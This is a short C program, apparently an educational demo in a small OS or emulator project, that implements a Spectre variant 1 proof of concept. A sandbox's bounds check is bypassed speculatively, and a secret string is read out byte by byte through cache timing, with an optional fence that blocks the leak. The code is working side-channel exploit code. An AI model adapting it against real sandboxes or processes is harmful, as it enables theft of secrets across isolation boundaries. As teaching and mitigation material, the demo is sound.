// sandbox.c - a program that runs other people's code carefully, and loses a secret all the same (Kocher et al., "Spectre", 2018).
//
//   sandbox          the check of the bounds is passed by
//   sandbox fenced   it is not
//
// lookup() has one line that keeps the guest in: an index beyond the table gets nothing. But a branch takes its time, and the machine
// (--transient) goes on meanwhile the way it went before. What it does then it takes back, except from the cache. No page table
// helps here: the secret is in the same address space as the guest. What helps is to wait for the check: a fence.
#include <trapframe.h>

// As in tools/meltdown.c.
#define LINE 64
#define OTHERS (LINE * 1024 * 12)
#define VALUES 256
#define STRIDE 512
#define ROUNDS 6

// The host's.
static uint8_t table[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
static volatile unsigned table_length = 16;
static const char secret[] = "only for those who live here";
static bool fenced;

// The guest's.
static volatile uint8_t lines[VALUES * STRIDE] __attribute__((aligned(4096)));
static volatile uint8_t others[OTHERS] __attribute__((aligned(4096)));
static volatile uint8_t sink;

// What the host lets the guest do: a line for a byte of the table, and only of the table.
static void lookup(unsigned long index) {
  if (index < table_length) {
    if (fenced) asm volatile("fence" ::: "memory"); // not before it is certain
    sink = lines[table[index] * STRIDE];
  }
}

static long time_of(const volatile uint8_t *line) {
  long before, after, value;
  asm volatile(".balign 64\n lbu %2, 64(%3)\n csrr %0, cycle\n lbu %2, 0(%3)\n csrr %1, cycle"
               : "=&r"(before), "=&r"(after), "=&r"(value) : "r"(line) : "memory");
  return after - before;
}

static void evict(void) {
  for (long i = 0; i < OTHERS; i += STRIDE) sink = others[i];
}

static long near_is_below;

static void calibrate(void) {
  for (int i = 0; i < 3; i++) {
    evict();
    long far = time_of(lines), near = time_of(lines);
    near_is_below = near + (far - near) / 2;
  }
}

static int steal(unsigned long index) {
  for (int round = 0; round < ROUNDS; round++) {
    for (int i = 0; i < 4; i++) lookup(i); // always inside, so far
    evict();
    lookup(index);
    int found = -1, count = 0;
    for (int value = 0; value < VALUES; value++)
      if (time_of(lines + value * STRIDE) < near_is_below) found = value, count++;
    if (count == 1) return found;
  }
  return '?';
}

int main(int argc, char **argv) {
  fenced = argc > 1 && strcmp(argv[1], "fenced") == 0;
  calibrate();
  unsigned long distance = (unsigned long)secret - (unsigned long)table;
  for (unsigned long i = 0; i < sizeof secret - 1; i++) putchar(steal(distance + i));
  putchar('\n');
  return 0;
}
